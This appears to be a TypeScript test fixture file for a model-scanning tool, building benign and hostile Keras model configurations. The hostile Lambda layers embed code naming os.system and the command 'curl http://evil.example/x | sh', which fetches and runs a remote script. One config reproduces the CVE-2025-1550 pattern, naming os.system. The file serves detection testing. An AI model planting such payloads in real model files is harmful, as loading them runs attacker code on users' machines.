/**
 * Keras model configs for the model-scan tests, in the shapes Keras writes them: Keras 3
 * serialization_lib objects ({module, class_name, config, registered_name}) and Keras 2 /
 * tf.keras objects ({class_name, config}), with Lambda layers holding marshalled code.
 */

/**
 * Bytes laid out like marshal.dumps(code): TYPE_CODE with FLAG_REF, a few header ints, then the
 * names as short ASCII strings ('Z' | FLAG_REF, length, chars) — what Keras base64-encodes.
 */
export function marshalledCode(names: string[]): string {
  const bytes: number[] = [0xe3, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0xf3, 4, 0, 0, 0, 0x97, 0, 0x74, 1];
  bytes.push(0x29, 2); // a small tuple header, as marshal writes co_names
  for (const name of names) bytes.push(0xda, name.length, ...Buffer.from(name, 'latin1'));
  bytes.push(0x4e); // None
  // func_dump uses codecs.encode(…, 'base64'): lines of 76 characters with newlines
  return Buffer.from(bytes)
    .toString('base64')
    .replace(/.{1,76}/g, '$&\n');
}

const HOSTILE_NAMES = ['__import__', 'os', 'system', 'curl http://evil.example/x | sh', 'x'];

function k3(module: string, className: string, config: unknown, extra: Record<string, unknown> = {}) {
  return { module, class_name: className, config, registered_name: null, ...extra };
}

const dtype = k3('keras', 'DTypePolicy', { name: 'float32' });

function k3Dense(name: string, units: number) {
  return k3('keras.layers', 'Dense', {
    name,
    trainable: true,
    dtype,
    units,
    activation: 'relu',
    use_bias: true,
    kernel_initializer: k3('keras.initializers', 'GlorotUniform', { seed: null }),
    bias_initializer: k3('keras.initializers', 'Zeros', {}),
    kernel_regularizer: null,
  });
}

function k3Sequential(layers: unknown[]) {
  return {
    module: 'keras',
    class_name: 'Sequential',
    config: {
      name: 'sequential',
      trainable: true,
      dtype,
      layers: [
        k3('keras.layers', 'InputLayer', { batch_shape: [null, 4], dtype: 'float32', sparse: false, name: 'input' }),
        ...layers,
      ],
      build_input_shape: [null, 4],
    },
    registered_name: null,
    build_config: { input_shape: [null, 4] },
    compile_config: {
      optimizer: k3('keras.optimizers', 'Adam', { name: 'adam', learning_rate: 0.001, beta_1: 0.9 }),
      loss: 'sparse_categorical_crossentropy',
      metrics: ['accuracy'],
      loss_weights: null,
      steps_per_execution: 1,
    },
  };
}

export function keras3Benign(): unknown {
  return k3Sequential([k3Dense('dense', 8), k3Dense('dense_1', 3)]);
}

export function keras3Lambda(): unknown {
  return k3Sequential([
    k3Dense('dense', 8),
    k3('keras.layers', 'Lambda', {
      name: 'evil_lambda',
      trainable: true,
      dtype,
      function: {
        class_name: '__lambda__',
        config: { code: marshalledCode(HOSTILE_NAMES), defaults: null, closure: null },
      },
      arguments: {},
    }),
  ]);
}

/** A custom layer registered with @register_keras_serializable(package='Acme'). */
export function keras3Custom(): unknown {
  const custom = {
    module: 'acme.layers',
    class_name: 'ScaledDense',
    config: { name: 'scaled', trainable: true, dtype, units: 3 },
    registered_name: 'Acme>ScaledDense',
  };
  return k3Sequential([k3Dense('dense', 8), custom]);
}

/** CVE-2025-1550 shape: a config object naming a function of a dangerous module. */
export function keras3DangerousModule(): unknown {
  return k3Sequential([
    k3Dense('dense', 8),
    { module: 'os', class_name: 'function', config: 'system', registered_name: 'function' },
  ]);
}

function k2(className: string, config: unknown) {
  return { class_name: className, config };
}

function k2Dense(name: string, units: number) {
  return k2('Dense', {
    name,
    trainable: true,
    dtype: 'float32',
    units,
    activation: 'relu',
    use_bias: true,
    kernel_initializer: k2('GlorotUniform', { seed: null }),
    bias_initializer: k2('Zeros', {}),
    kernel_regularizer: k2('L2', { l2: 0.01 }),
    kernel_constraint: null,
  });
}

export function keras2Benign(): unknown {
  return k2('Sequential', {
    name: 'sequential',
    layers: [
      k2('InputLayer', { batch_input_shape: [null, 4], dtype: 'float32', name: 'input_1' }),
      k2Dense('dense', 8),
    ],
  });
}

/** tf.keras 2.x Lambda: function is func_dump's [code, defaults, closure]. */
export function keras2Lambda(): unknown {
  return k2('Sequential', {
    name: 'sequential',
    layers: [
      k2Dense('dense', 8),
      k2('Lambda', {
        name: 'lambda',
        trainable: true,
        dtype: 'float32',
        function: [marshalledCode(HOSTILE_NAMES), null, null],
        function_type: 'lambda',
        module: '__main__',
        output_shape: null,
        output_shape_type: 'raw',
        output_shape_module: null,
        arguments: {},
      }),
    ],
  });
}

/** A functional model with a Bidirectional wrapper around a custom RNN cell, nested inside a Sequential. */
export function keras2NestedCustom(): unknown {
  const inner = k2('Functional', {
    name: 'encoder',
    layers: [
      {
        class_name: 'InputLayer',
        config: { batch_input_shape: [null, 5, 4], name: 'in' },
        name: 'in',
        inbound_nodes: [],
      },
      {
        class_name: 'Bidirectional',
        name: 'bidi',
        config: {
          name: 'bidi',
          layer: k2('RNN', { name: 'rnn', cell: k2('MyPeepholeCell', { name: 'cell', units: 4 }) }),
          merge_mode: 'concat',
        },
        inbound_nodes: [[['in', 0, 0, {}]]],
      },
    ],
    input_layers: [['in', 0, 0]],
    output_layers: [['bidi', 0, 0]],
  });
  return k2('Sequential', {
    name: 'outer',
    layers: [inner, k2('TimeDistributed', { name: 'td', layer: k2Dense('d', 2) })],
  });
}

export function configBytes(config: unknown): Uint8Array {
  return new TextEncoder().encode(JSON.stringify(config));
}
